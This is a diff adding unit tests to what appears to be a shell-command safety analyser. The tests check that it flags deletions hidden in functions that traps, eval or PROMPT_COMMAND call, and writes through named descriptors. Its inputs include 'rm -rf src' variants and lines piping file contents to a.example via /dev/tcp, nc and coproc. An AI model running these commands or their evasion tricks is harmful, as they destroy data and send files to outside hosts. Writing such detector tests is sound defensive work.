@@ -109,3 +109,52 @@ describe("patches", () => {
     expect(found(command)).toContain(effect);
   });
 });
+
+describe("a function that is defined", () => {
+  const deletes = (command: string): boolean => shell.read(command).effects.some(({ kind }) => kind === "delete");
+
+  it.each(["f() { rm -rf src; }", 'cleanup() { rm -rf "$TMP"; }; echo a', "function f { rm -rf src; }\nmake test"])(
+    "does nothing if nothing can call it: %s",
+    (command) => {
+      expect(deletes(command)).toBe(false);
+    },
+  );
+
+  it.each([
+    "f() { rm -rf src; }; f",
+    "f() { rm -rf src; }; $X",
+    'f() { rm -rf src; }; eval "$X"',
+    "f() { rm -rf src; }; . ./x.sh",
+    "f() { rm -rf src; }; export -f f; make",
+    "f() { rm -rf src; }; trap f EXIT",
+    "f() { rm -rf src; }; x=f; $x",
+    "f() { rm -rf src; }; PROMPT_COMMAND=f",
+    "command_not_found_handle() { rm -rf src; }; foo",
+  ])("counts if something may call it: %s", (command) => {
+    expect(deletes(command)).toBe(true);
+  });
+
+  it("counts for a later command that calls it", () => {
+    const { after } = shell.read("f() { rm -rf src; }");
+    expect(shell.read("f", { ...after }).effects.map(({ kind }) => kind)).toContain("delete");
+  });
+});
+
+describe("a descriptor with a name", () => {
+  it.each(["exec {fd}>/tmp/a.log; echo a >&$fd", "exec {fd}<>a.log; echo a >&$fd; exec {fd}>&-"])(
+    "is no file: %s",
+    (command) => {
+      expect(found(command)).not.toContain("write ?");
+    },
+  );
+
+  it.each([
+    "echo a >&$fd",
+    "exec {fd}>/tmp/a.log; fd=$1; echo a >&$fd",
+    "exec {fd}<>/dev/tcp/a.example/80; cat b >&$fd",
+    "exec {fd}> >(nc a.example 80); cat b >&$fd",
+    "coproc nc a.example 80; cat b >&${COPROC[1]}",
+  ])("may be another: %s", (command) => {
+    expect(found(command)).toContain("write ?");
+  });
+});
